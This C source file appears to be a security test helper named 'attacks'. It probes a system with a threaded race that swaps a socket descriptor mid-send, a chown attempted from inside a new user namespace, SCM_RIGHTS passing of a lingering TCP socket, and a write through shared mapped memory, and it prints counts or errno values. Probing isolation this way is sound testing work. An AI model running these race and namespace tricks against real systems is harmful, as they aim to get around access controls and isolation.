/*
 * attacks late-socket PATH: many threads send to PATH on a stream socket; before they run on, a datagram socket takes its
 * place. Prints how many messages were taken.
 * attacks namespace FILE: as another user, who is root in a user namespace of its own, makes FILE its own. Prints 0 or an errno.
 * attacks linger PATH PORT GO SECONDS end|stay: sends PATH a stream to PORT that takes SECONDS to close; once there is GO,
 * nobody but who carries the message has it any more. Prints 0 or an errno.
 * attacks write-mapped FILE: makes its first byte a B, through mapped memory.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <sched.h>
#include <stdatomic.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/resource.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

#define SENDERS 32
#define SPINNERS 2
#define NUMBER 100 /* of the descriptor that changes */
#define OTHER 65534

static struct sockaddr_un to = { .sun_family = AF_UNIX };
static atomic_int begun, sent;
static atomic_bool over;

static void stay_on(int processor)
{
	cpu_set_t set;

	CPU_ZERO(&set);
	CPU_SET(processor, &set);
	sched_setaffinity(0, sizeof set, &set); /* where there is but one they share it */
}

/* Runs on only now and then: long after it was allowed to. */
static void *send_late(void *unused)
{
	stay_on(1);
	setpriority(PRIO_PROCESS, 0, 15); /* of this thread */
	begun++;
	if (sendto(NUMBER, "x", 1, MSG_NOSIGNAL, (struct sockaddr *)&to, sizeof to) == 1)
		sent++;
	return unused;
}

static void *spin(void *unused)
{
	stay_on(1);
	while (!over)
		continue;
	return unused;
}

static int late_socket(const char *path)
{
	pthread_t senders[SENDERS], spinners[SPINNERS];

	strncpy(to.sun_path, path, sizeof to.sun_path - 1);
	dup2(socket(AF_UNIX, SOCK_STREAM, 0), NUMBER);
	stay_on(0);
	for (int i = 0; i < SPINNERS; i++)
		pthread_create(&spinners[i], NULL, spin, NULL);
	for (int i = 0; i < SENDERS; i++)
		pthread_create(&senders[i], NULL, send_late, NULL);
	while (begun < SENDERS / 4)
		sched_yield();
	dup2(socket(AF_UNIX, SOCK_DGRAM, 0), NUMBER);
	over = true;
	for (int i = 0; i < SENDERS; i++)
		pthread_join(senders[i], NULL);
	printf("%d\n", sent);
	return 0;
}

static int namespace(const char *file)
{
	if (setgid(OTHER) || setuid(OTHER) || unshare(CLONE_NEWUSER))
		return 1;
	printf("%d\n", chown(file, OTHER, OTHER) ? errno : 0);
	return 0;
}

/* With more to send than its peer takes, so that closing it waits. */
static int lingering(int port, int seconds)
{
	struct sockaddr_in peer = { .sin_family = AF_INET, .sin_port = htons(port), .sin_addr = { htonl(INADDR_LOOPBACK) } };
	struct linger linger = { 1, seconds };
	int stream = socket(AF_INET, SOCK_STREAM, 0);
	static char data[65536];

	if (connect(stream, (struct sockaddr *)&peer, sizeof peer))
		return -1;
	while (send(stream, data, sizeof data, MSG_DONTWAIT) > 0)
		continue;
	return setsockopt(stream, SOL_SOCKET, SO_LINGER, &linger, sizeof linger) ? -1 : stream;
}

static void *send_away(void *stream)
{
	union {
		struct cmsghdr header;
		char bytes[CMSG_SPACE(sizeof(int))];
	} control = { { CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS } };
	struct iovec data = { "x", 1 };
	struct msghdr message = { .msg_name = &to, .msg_namelen = sizeof to, .msg_iov = &data, .msg_iovlen = 1,
				  .msg_control = &control, .msg_controllen = sizeof control };

	memcpy(CMSG_DATA(&control.header), stream, sizeof(int));
	int result = sendmsg(socket(AF_UNIX, SOCK_DGRAM, 0), &message, 0) < 0 ? errno : 0;
	printf("%d\n", result);
	return NULL;
}

static int send_lingering(const char *path, int port, const char *go, int seconds, bool end)
{
	int stream = lingering(port, seconds);
	pthread_t sender;

	if (stream < 0)
		return 1;
	strncpy(to.sun_path, path, sizeof to.sun_path - 1);
	pthread_create(&sender, NULL, send_away, &stream);
	while (access(go, F_OK))
		usleep(1000);
	close(stream);
	if (unlink(go))
		return 1;
	return end ? 0 : pthread_join(sender, NULL);
}

/* A page that was read first may be written to already where nothing is written back. */
static int write_mapped(const char *file)
{
	int descriptor = open(file, O_RDWR);
	volatile char *page = mmap(NULL, 1, PROT_READ | PROT_WRITE, MAP_SHARED, descriptor, 0);

	if (descriptor < 0 || page == MAP_FAILED)
		return 1;
	char before = *page;
	*page = 'B';
	return before == 'B';
}

int main(int argc, char **argv)
{
	if (argc == 7 && !strcmp(argv[1], "linger"))
		return send_lingering(argv[2], atoi(argv[3]), argv[4], atoi(argv[5]), !strcmp(argv[6], "end"));
	if (argc == 3 && !strcmp(argv[1], "write-mapped"))
		return write_mapped(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "late-socket"))
		return late_socket(argv[2]);
	if (argc == 3 && !strcmp(argv[1], "namespace"))
		return namespace(argv[2]);
	return 2;
}
